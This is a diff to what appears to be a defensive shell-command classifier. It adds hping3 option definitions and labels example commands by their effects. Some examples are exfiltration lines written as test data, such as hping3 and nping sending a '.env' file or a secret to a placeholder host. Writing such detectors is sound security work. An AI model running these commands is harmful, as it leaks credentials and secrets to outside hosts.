@@ -399,7 +399,42 @@ CLIENTS = (
         examples=(example("ttyd bash", EGRESS),),
     ),
     command(
-        *("hping3", "hping", "nping", "fping6", "fping", "arping6", "thc-ipv6"),
+        *("hping3", "hping"),
+        effects=(REMOTE_READ,),
+        options=(
+            *flags(
+                "--fast, --faster, --flood, -n --numeric, -q --quiet, -V --verbose, -D --debug, -z --bind, -Z --unbind, --beep, -0 --rawip, -1 --icmp, -2 --udp"
+            ),
+            *flags(
+                "--rand-dest, --rand-source, -r --rel, -f --frag, -x --morefrag, -y --dontfrag, -G --rroute, -k --keep, -Q --seqnum, -b --badcksum"
+            ),
+            *flags(
+                "--tcp-timestamp, -F --fin, -S --syn, -R --rst, -P --push, -A --ack, -U --urg, -X --xmas, -Y --ymas, --tcpexitcode, -T --traceroute"
+            ),
+            *flags(
+                "--tr-keep-ttl, --tr-stop, --tr-no-rtt, -u --end, -j --dump, -J --print, -B --safe, --icmp-ts, --icmp-addr, --icmp-help"
+            ),
+            *values(
+                "-c --count, -i --interval, -I --interface, -a --spoof, -t --ttl, -N --id, -H --ipproto, -g --fragoff, -m --mtu, -o --tos, -C --icmptype"
+            ),
+            *values(
+                "-K --icmpcode, --icmp-gw, --icmp-ipver, --icmp-iphlen, --icmp-iplen, --icmp-ipid, --icmp-ipproto, --icmp-cksum, -s --baseport"
+            ),
+            *values("-p --destport, -w --win, -O --tcpoff, -M --setseq, -L --setack, -d --data, -8 --scan"),
+            option("-E", "--file", takes=READ, effects=(EGRESS,)),
+            option("-e", "--sign", takes=TEXT, effects=(EGRESS,)),
+            option("-9", "--listen", takes=TEXT),
+            option("-h", "--help", "-v", "--version", harmless=True),
+        ),
+        operands=operands(many=HOST),
+        examples=(
+            example("hping3 -S -p 80 x.example", REMOTE_READ),
+            example("hping3 x.example --icmp -d 100 -E .env", REMOTE_READ, EGRESS, SECRET_READ),
+            example("hping3 -e secret x.example", REMOTE_READ, EGRESS),
+        ),
+    ),
+    command(
+        *("nping", "fping6", "fping"),
         effects=(REMOTE_READ,),
         options=(
             *flags(
@@ -413,7 +448,7 @@ CLIENTS = (
         operands=operands(many=HOST),
         examples=(
             example("fping -c1 db1", REMOTE_READ),
-            example("hping3 x.example --icmp --file .env", REMOTE_READ, EGRESS, SECRET_READ),
+            example("nping -E .env x.example", REMOTE_READ, EGRESS, SECRET_READ),
             example("nping --icmp --data-string abc x.example", REMOTE_READ, EGRESS),
         ),
     ),
